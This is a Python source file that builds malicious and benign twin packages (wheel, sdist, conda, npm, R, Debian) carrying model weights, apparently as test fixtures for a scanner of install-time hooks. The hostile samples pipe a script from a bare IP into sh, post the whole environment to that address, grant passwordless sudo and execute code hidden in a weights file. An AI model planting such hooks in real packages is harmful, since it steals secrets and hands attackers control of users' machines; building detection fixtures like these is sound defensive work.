"""Packages that carry weights or install-time commands: wheels, sdists, conda, npm, R and Debian."""
import bz2
import gzip
import hashlib
import io
import json
import tarfile
import zipfile

from twelfth.archives import tar
from twelfth.weights import random, safetensors

SHARD = safetensors({"embed.weight": ("F32", [4, 4], random(16).tobytes())})
FETCH = "curl -fsSL http://203.0.113.20/setup.sh | sh"


def wheel(name, files):
    info = f"{name}-1.0.dist-info"
    files = {**files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: hatchling\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    out = io.BytesIO()
    record = ""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for path, body in files.items():
            body = body.encode() if isinstance(body, str) else body
            z.writestr(zipfile.ZipInfo(path, (2026, 4, 1, 0, 0, 0)), body)
            record += f"{path},sha256={hashlib.sha256(body).hexdigest()},{len(body)}\n"
        z.writestr(f"{info}/RECORD", record)
    return out.getvalue()


def targz(files, pack=lambda b: gzip.compress(b, mtime=0)):
    return pack(tar([(n, b.encode() if isinstance(b, str) else b, {"mode": 0o755}) for n, b in files.items()], tarfile.GNU_FORMAT))


def debian(script):
    def member(name, body):
        return f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(body):<10}`\n".encode() + body + b"\n" * (len(body) % 2)

    control = targz({"./control": "Package: tiny-model\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@example.org>\nDescription: weights\n", "./postinst": script})
    return b"!<arch>\n" + member("debian-binary", b"2.0\n") + member("control.tar.gz", control) + member("data.tar.gz", targz({"./usr/share/tiny/model.safetensors": SHARD}))


def add(out):
    line = "import os; os.path.exists('marker') or os.system('touch marker')\n"
    out.add(
        "packages", "wheel-start-hook", wheel("tiny_weights", {"tiny_weights/model.safetensors": SHARD, "tiny_weights.pth": line}),
        wheel("tiny_weights", {"tiny_weights/model.safetensors": SHARD, "tiny_weights.pth": "tiny_weights/vendor\n"}), prove="twelfth-hook", file="tiny_weights-1.0-py3-none-any.whl",
        why="a .pth file of the wheel runs a command at each start of Python once installed; the twin's adds a folder to the path",
    )
    project = '[build-system]\nrequires = []\nbuild-backend = "shaper"\nbackend-path = ["."]\n\n[project]\nname = "tiny-weights"\nversion = "1.0"\n'
    backend = "import subprocess\n\n\ndef get_requires_for_build_wheel(config=None):\n    {}\n    return []\n\n\ndef build_wheel(folder, config=None, metadata=None):\n    raise SystemExit('no wheel')\n"
    sdist = lambda body: targz({"tiny-weights-1.0/pyproject.toml": project, "tiny-weights-1.0/shaper.py": backend.format(body), "tiny-weights-1.0/weights.safetensors": SHARD,
                                "tiny-weights-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: tiny-weights\nVersion: 1.0\n"})
    out.add(
        "packages", "sdist-own-backend", sdist("subprocess.run(['sh', '-c', 'touch marker ../../marker'])"), sdist("subprocess.run(['git', '--version'], check=False, capture_output=True)"),
        prove="twelfth-backend:shaper", file="tiny-weights-1.0.tar.gz",
        why="the sdist is its own build backend, which pip imports and asks for requirements at install time: it runs a shell command; the twin's asks git for its version",
    )
    conda = lambda text: targz({"info/index.json": json.dumps({"name": "tiny-weights", "version": "1.0", "build": "0", "build_number": 0, "depends": [], "subdir": "noarch"}),
                                "info/files": "bin/.tiny-weights-post-link.sh\nshare/model.safetensors\n", "bin/.tiny-weights-post-link.sh": text, "share/model.safetensors": SHARD}, bz2.compress)
    out.add(
        "packages", "conda-post-link", conda("#!/bin/sh\n(nohup sh -c '" + FETCH + "' >/dev/null 2>&1 &)\n"), conda('#!/bin/sh\necho "weights are under $PREFIX/share" >> "$PREFIX/.messages.txt"\n'),
        file="tiny-weights-1.0-0.tar.bz2", why="the post-link script of a conda package fetches a script from a bare address and runs it in the background; not run, it uses the network",
    )
    npm = lambda files: targz({"package/package.json": json.dumps({"name": "tiny-onnx-weights", "version": "1.0.0", "main": "index.js", **files.pop("json", {})}), "package/index.js": "module.exports = require('path').join(__dirname, 'model.onnx');\n",
                               "package/model.onnx": b"\x08\x09\x12\x07pytorch" + SHARD, **{f"package/{k}": v for k, v in files.items()}})
    steal = "node -e \"require('https').request({host:'203.0.113.20',method:'POST',path:'/e'}).end(JSON.stringify(process.env))\""
    out.add(
        "packages", "npm-preinstall", npm({"json": {"scripts": {"preinstall": steal, "test": "node --test"}}}), npm({"json": {"scripts": {"preinstall": "node -e \"process.exit(process.versions.node.split('.')[0] < 18 ? 1 : 0)\"", "test": "node --test"}}}),
        file="tiny-onnx-weights-1.0.0.tgz", why="installing the package posts the whole environment, secrets included, to a bare address; the twin checks the version of node",
    )
    gyp = lambda command: json.dumps({"targets": [{"target_name": "tokenizer", "sources": ["src/tokenizer.cc"], "include_dirs": [f"<!({command})"]}]})
    out.add(
        "packages", "gyp-expansion", npm({"binding.gyp": gyp(FETCH), "src/tokenizer.cc": "int main() { return 0; }\n"}), npm({"binding.gyp": gyp("node -p \"require('node-addon-api').include\""), "src/tokenizer.cc": "int main() { return 0; }\n"}),
        file="tiny-onnx-weights-1.0.0.tgz", why="no install script, but npm runs node-gyp where there is a binding.gyp, and its command expansion fetches and runs a script",
    )
    rpkg = lambda body: targz({"tinyfit/DESCRIPTION": "Package: tinyfit\nVersion: 1.0\nTitle: Fitted Weights\nLicense: MIT\n", "tinyfit/NAMESPACE": "export(fit)\n",
                               "tinyfit/R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  " + body + "\n}\nfit <- function(x) x\n", "tinyfit/inst/extdata/model.safetensors": SHARD})
    out.add(
        "packages", "r-on-load", rpkg('system("' + FETCH + '", wait = FALSE, ignore.stdout = TRUE)'), rpkg('options(tinyfit.path = system.file("extdata", package = pkgname))'),
        file="tinyfit_1.0.tar.gz", why="the load hook of an R package with weights fetches a script and runs it, at build and at each library(); R is not installed",
    )
    out.add(
        "packages", "debian-postinst", debian("#!/bin/sh\nset -e\necho 'kernel ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/kernel\n" + FETCH + "\n"), debian("#!/bin/sh\nset -e\nldconfig\n"),
        file="tiny-model_1.0_all.deb", why="the postinst of a package of weights gives a user all rights without a password and runs a fetched script, as root",
    )
    cfg = lambda body, tail: targz({"tinyhub-1.0/setup.py": "import base64\nimport os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n\n\nclass Info(egg_info):\n    def run(self):\n"
                                                      f"        {body}\n        super().run()\n\n\nsetup(name='tinyhub', version='1.0', cmdclass={{'egg_info': Info}})\n",
                              "tinyhub-1.0/model.safetensors": SHARD + tail, "tinyhub-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: tinyhub\nVersion: 1.0\n"})
    out.add(
        "packages", "sdist-weights-tail", cfg("exec(compile(open('model.safetensors', 'rb').read()[-32:], 'w', 'exec'))", b"open('marker','w').close()".ljust(32)),
        cfg("print('weights:', os.path.getsize('model.safetensors'))", b""),
        file="tinyhub-1.0.tar.gz", why="a hook of pip's metadata step executes the last bytes of the weights as Python; the twin prints their size",
    )
